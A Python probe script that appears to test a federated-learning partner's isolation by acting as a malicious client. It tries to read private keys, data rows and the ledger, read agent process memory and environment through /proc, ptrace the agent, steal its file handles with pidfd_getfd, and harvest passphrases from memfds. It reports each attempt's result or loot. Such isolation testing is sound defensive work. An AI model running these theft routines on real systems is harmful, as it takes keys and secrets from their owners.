"""What hostile code takes that runs on a partner's machine, as far as its user of the operating system can.

Goes into a Flower app bundle beside a malicious ClientApp, so it imports nothing of Veilrec's; also a program of its
own: ``python plunder.py FOLDER``. ``plunder`` tries every way to a row, a key, the ledger, the policy and the agent
itself, and tells of each whether it was open.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import sys
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path

SHUT = "shut"
_PTRACE_ATTACH, _PTRACE_DETACH, _PIDFD_OPEN, _PIDFD_GETFD = 16, 17, 434, 438


def plunder(folder: Path) -> dict[str, str]:
    """Everything that was tried against a partner's folder and its agent, and what came of it: `SHUT`, or the loot."""
    ways: dict[str, Callable[[], str]] = {
        "rows": lambda: _rows(folder / "data" / "interactions.parquet"),
        "folder": lambda: " ".join(sorted(path.name for path in folder.iterdir())),
        "runs": lambda: " ".join(sorted(path.name for path in (folder / "runs").iterdir())),
        "write": lambda: _write(folder / "planted"),
        "replace the socket": lambda: _replace(folder / "agent.sock"),
        "operator": lambda: _connect(folder / "operator.sock"),
        "passphrase": _passphrases,
    }
    for name in ("identity.key", "pseudonym.key", "partner.toml", "ledger.jsonl", "enrolment.json"):
        ways[name] = lambda name=name: _read(folder / name)  # type: ignore[misc]
        ways[f"change {name}"] = lambda name=name: _open_to_write(folder / name)  # type: ignore[misc]
    for pid in _agents(folder):
        for name in ("mem", "environ", "maps"):
            ways[f"agent's {name}"] = lambda pid=pid, name=name: _read(Path(f"/proc/{pid}/{name}"))  # type: ignore[misc]
        ways["agent's fd"] = lambda pid=pid: " ".join(os.listdir(f"/proc/{pid}/fd"))  # type: ignore[misc]  # noqa: PTH208
        ways["agent's handles"] = lambda pid=pid: _steal_handle(pid)  # type: ignore[misc]
        ways["trace the agent"] = lambda pid=pid: _trace(pid)  # type: ignore[misc]
        ways["signal the agent"] = lambda pid=pid: _signal(pid)  # type: ignore[misc]
    return {name: _tried(way) for name, way in ways.items()}


def _tried(way: Callable[[], str]) -> str:
    try:
        return way() or "open"
    except PermissionError:
        return SHUT


def _rows(file: Path) -> str:
    """The first rows; the file is opened here, so that a refusal is the operating system's."""
    with file.open("rb") as opened:
        import polars as pl

        return str(pl.read_parquet(opened).rows()[:5])


def _read(file: Path) -> str:
    with file.open("rb", buffering=0) as opened:
        if file.name == "mem":
            return "open"
        return opened.read(20_000).decode("latin-1")


def _open_to_write(file: Path) -> str:
    os.close(os.open(file, os.O_WRONLY))
    return "open"


def _write(file: Path) -> str:
    file.write_text("planted")
    file.unlink()
    return "written"


def _replace(address: Path) -> str:
    address.rename(address.with_name("moved"))
    address.with_name("moved").rename(address)
    return "replaced"


def _connect(address: Path) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as made:
        made.connect(str(address))
    return "connected"


def _trace(pid: int) -> str:
    _call("ptrace", _PTRACE_ATTACH, pid, None, None)
    with suppress(ChildProcessError):
        os.waitpid(pid, 0)
    _call("ptrace", _PTRACE_DETACH, pid, None, None)
    return "traced"


def _steal_handle(pid: int) -> str:
    """An open file of the agent's, by its number: `pidfd_getfd`."""
    handle = _call("syscall", _PIDFD_OPEN, pid, 0)
    try:
        os.close(_call("syscall", _PIDFD_GETFD, handle, 0, 0))
    finally:
        os.close(handle)
    return "taken"


def _call(name: str, *arguments: int | None) -> int:
    result = getattr(ctypes.CDLL(None, use_errno=True), name)(*arguments)
    if result == -1:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return int(result)


def _signal(pid: int) -> str:
    os.kill(pid, signal.SIGCONT)
    return "sent"


def _passphrases() -> str:
    """Passphrases in the memory files of all processes that may be looked into: those of the own user."""
    found = []
    for folder in Path("/proc").glob("[0-9]*/fd"):
        with suppress(OSError):
            for handle in folder.iterdir():
                with suppress(OSError):
                    if "memfd:veilrec-passphrase" in str(handle.readlink()):
                        found.append(handle.read_text())
    if not found:
        raise PermissionError
    return found[0]


def _agents(folder: Path) -> Iterator[int]:
    for line in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            words = line.read_bytes().split(b"\0")
            if b"client.partner_process" in words and b"agent" in words and bytes(folder) in words:
                yield int(line.parent.name)


if __name__ == "__main__":
    print(json.dumps(plunder(Path(sys.argv[-1]))))
